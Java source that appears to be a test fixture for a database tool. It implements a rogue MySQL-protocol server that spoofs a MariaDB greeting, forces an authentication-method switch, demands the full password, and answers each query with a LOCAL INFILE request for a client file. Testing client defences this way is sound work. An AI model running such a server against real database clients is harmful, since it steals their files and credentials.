package org.dbmcp.database;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;

/** What a server that speaks MySQL's protocol may try. */
final class RogueMySql {
    private static final int LOCAL_FILES = 0x80;
    private static final int TLS = 0x800;
    private static final int USUAL = 0xaa20f;
    private static final byte SWITCH = (byte) 0xfe;
    private static final byte LOCAL_FILE = (byte) 0xfb;

    /** All is well, nothing changed, autocommit is on. */
    private static final byte[] OK = {0, 0, 0, 2, 0, 0, 0};

    private RogueMySql() {}

    /** Asks for the password by another method than the one it greeted with. */
    static RogueServer.Talk switchingTo(String method) {
        return asking("mysql_native_password", method);
    }

    /** Greets with the method already, and insists on it. */
    static RogueServer.Talk greetingWith(String method) {
        return asking(method, method);
    }

    private static RogueServer.Talk asking(String first, String then) {
        return (client, answer) -> {
            send(answer, 0, greeting(first, USUAL));
            receive(client);
            send(answer, 2, concat(new byte[] {SWITCH}, text(then), new byte[21]));
        };
    }

    /** Says that the password's hash is not known here, so that the password itself is wanted. */
    static RogueServer.Talk wantingTheWholePassword() {
        return (client, answer) -> {
            send(answer, 0, greeting("caching_sha2_password", USUAL));
            receive(client);
            send(answer, 2, new byte[] {1, 4});
        };
    }

    /** Lets everyone in, and answers each statement with a wish for a file of the client's. */
    static RogueServer.Talk wanting(Path file) {
        return (client, answer) -> {
            send(answer, 0, greeting("mysql_native_password", USUAL | LOCAL_FILES));
            receive(client);
            send(answer, 2, OK);
            while (true) {
                receive(client);
                send(answer, 1, concat(new byte[] {LOCAL_FILE}, text(file.toString())));
                receive(client);
                send(answer, 3, OK);
            }
        };
    }

    /** Lets everyone in, and has no rows whatever is asked. */
    static RogueServer.Talk lettingIn() {
        return (client, answer) -> {
            send(answer, 0, greeting("mysql_native_password", USUAL));
            receive(client);
            send(answer, 2, OK);
            while (true) {
                receive(client);
                send(answer, 1, OK);
            }
        };
    }

    /** Agrees to TLS, and says nothing more. */
    static RogueServer.Talk silentInTheHandshake() {
        return (client, answer) -> send(answer, 0, greeting("mysql_native_password", USUAL | TLS));
    }

    private static byte[] greeting(String method, int abilities) {
        return concat(
                new byte[] {10},
                // both drivers take it for a server of theirs
                text("8.0.33-MariaDB"),
                new byte[] {1, 0, 0, 0},
                "12345678".getBytes(StandardCharsets.ISO_8859_1),
                new byte[] {0, (byte) abilities, (byte) (abilities >> 8), 45, 2, 0},
                new byte[] {(byte) (abilities >> 16), (byte) (abilities >> 24), 21},
                new byte[10],
                text("123456789012"),
                text(method));
    }

    private static byte[] text(String text) {
        return (text + "\0").getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] each : parts) {
            all.writeBytes(each);
        }
        return all.toByteArray();
    }

    private static void send(OutputStream answer, int number, byte[] content) throws IOException {
        int length = content.length;
        byte[] header = {(byte) length, (byte) (length >> 8), 0, (byte) number};
        answer.write(concat(header, content));
        answer.flush();
    }

    private static void receive(DataInputStream client) throws IOException {
        int length = client.read() | client.read() << 8 | client.read() << 16;
        client.readByte();
        client.readFully(new byte[length]);
    }
}
